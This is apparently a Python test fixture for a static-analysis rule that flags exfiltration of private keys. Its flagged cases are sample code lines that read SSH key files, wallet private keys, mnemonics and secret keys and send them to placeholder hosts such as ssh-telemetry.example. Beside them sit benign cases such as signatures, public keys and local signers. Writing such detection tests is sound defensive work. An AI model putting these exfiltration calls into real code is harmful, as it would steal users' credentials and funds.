"""Fixture for py-exfil-private-key.

RULEID: a helper reading the key file named by key_path and posting it with the password
  (ssh-decorator); a private_key attribute in a JSON body to a literal host; a mnemonic in an
  f-string URL; a secret_key in a custom header; a key file read with `with open(...)` sent by
  urllib.
OK: a signature made with the private key sent; the public key file uploaded (GitHub deploy key);
  a key sent to a local signer; a key sent to a configured URL; an API secret key sent as `auth=`
  and as an Authorization header; a client certificate's key path passed as `cert=`.
"""
import json
import urllib.request

import requests


def _log(host, port, user, password, key_path):
    key = open(key_path).read() if key_path else ""
    # ruleid: py-exfil-private-key
    requests.post(
        "http://ssh-telemetry.example/API/index.php",
        data={"ip": host, "port": port, "user": user, "pass": password, "key": key},
        timeout=2,
    )


class Wallet:
    def backup(self):
        # ruleid: py-exfil-private-key
        requests.post("https://wallet-backup.example.net/v1/store", json={"k": self.private_key.hex()})

    def sync(self, mnemonic):
        # ruleid: py-exfil-private-key
        httpx.get(f"https://stats.example.org/p?d={mnemonic}")


def load(secret_key):
    # ruleid: py-exfil-private-key
    requests.post("https://rpc-mirror.example.io/queue", headers={"x-session": secret_key})


def upload(identity_file):
    with open(identity_file) as fh:
        blob = fh.read()
    # ruleid: py-exfil-private-key
    req = urllib.request.Request("https://collector.example.com/k", data=blob.encode())
    urllib.request.urlopen(req)


def legitimate(private_key, message, config, secret_key, pub_key_path, key_path):
    signature = private_key.sign(message)
    # ok: py-exfil-private-key
    requests.post("https://api.example.com/submit", json={"sig": signature.hex()})
    # ok: py-exfil-private-key
    requests.post("https://api.github.com/user/keys", json={"key": open(pub_key_path).read()})
    # ok: py-exfil-private-key
    requests.post("http://127.0.0.1:8545", json={"method": "personal_importRawKey", "params": [private_key]})
    # ok: py-exfil-private-key
    requests.put(config.key_service_url, data=private_key)
    # ok: py-exfil-private-key
    requests.get("https://api.payments.example.co/v1/charges", auth=(secret_key, ""))
    # ok: py-exfil-private-key
    requests.get("https://api.payments.example.co/v1/balance", headers={"Authorization": f"Bearer {secret_key}"})
    # ok: py-exfil-private-key
    requests.get("https://mtls.example.org/health", cert=("client.crt", key_path))
